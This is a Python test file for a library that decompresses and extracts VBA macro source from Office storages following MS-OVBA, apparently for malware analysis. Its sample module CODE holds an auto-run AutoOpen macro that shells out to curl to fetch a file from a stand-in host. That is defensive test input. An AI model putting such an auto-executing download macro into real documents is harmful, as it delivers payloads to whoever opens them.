"""MS-OVBA: the examples of its section 3.2, damaged containers, and modules as ``dir`` lists them."""

from __future__ import annotations

import struct

from hypothesis import given
from hypothesis import strategies as st

from malkoha.processing.vba import decompress, modules

CODE = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "curl http://example.org/x"\r\nEnd Sub\r\n'


def compressed(data: bytes) -> bytes:
    """Make a container of literals only."""
    out = b"\x01"
    for start in range(0, len(data), 3600):
        part = data[start : start + 3600]
        body = b"".join(b"\0" + part[at : at + 8] for at in range(0, len(part), 8))
        out += struct.pack("<H", 0xB000 | (len(body) - 1)) + body
    return out


def storage(code: str = CODE, name: bytes = b"M") -> dict[str, bytes]:
    """Make the streams of a VBA storage with one module, whose source begins after 11 bytes of compiled code."""
    records = [(3, struct.pack("<H", 1252)), (9, b"\1\0\0\0\2\0"), (0x1A, name), (0x31, struct.pack("<I", 11))]
    listing = b"".join(struct.pack("<HI", kind, 4 if kind == 9 else len(body)) + body for kind, body in records)
    return {"dir": compressed(listing), name.decode("cp1252"): bytes(11) + compressed(code.encode("cp1252"))}


def test_the_examples_of_the_specification() -> None:
    literal = "0119b000 6162636465666768 00 696a6b6c6d6e6f70 00 717273747576 2e"
    normal = (
        "012fb000 2361616162636465 82 66 0070 6167 68696a 0138 08 616b6c 0030 6d6e6f70 06 71 0270 0410 7273747576 "
        "10 7778797a 003c"
    )
    assert decompress(bytes.fromhex(literal)) == b"abcdefghijklmnopqrstuv."
    assert decompress(bytes.fromhex(normal)) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
    assert decompress(bytes.fromhex("0103b002614500")) == b"a" * 73


def test_a_damaged_container_gives_what_came_before() -> None:
    assert decompress(b"") == decompress(b"\2abc") == b""
    whole = compressed(b"x" * 5000)
    assert decompress(whole) == b"x" * 5000
    assert decompress(whole[:2000]) == b"x" * len(decompress(whole[:2000])) != b""
    assert len(decompress(whole, limit=100)) == 100


def test_modules_by_the_listing_and_without_it() -> None:
    assert modules(storage()) == {"M": CODE}
    assert modules(storage("' żółw".encode("cp1252", "replace").decode("cp1252") + "é")) == {"M": "' ?ó?wé"}
    streams = storage()
    del streams["dir"]
    native = b"\x01" + struct.pack("<H", 0xB000 | 0) + b"\0Attribut" + b"\0e VB_Nam"
    streams["M"] = bytes(11) + native[:1] + struct.pack("<H", 0xB000 | (len(native) - 4)) + native[3:]
    assert modules(streams) == {"M": "Attribute VB_Nam"}


@given(st.binary(max_size=300))
def test_any_bytes_are_bounded(data: bytes) -> None:
    assert len(decompress(b"\1" + data, limit=5000)) <= 5000
    assert isinstance(modules({"dir": data, "M": data}), dict)
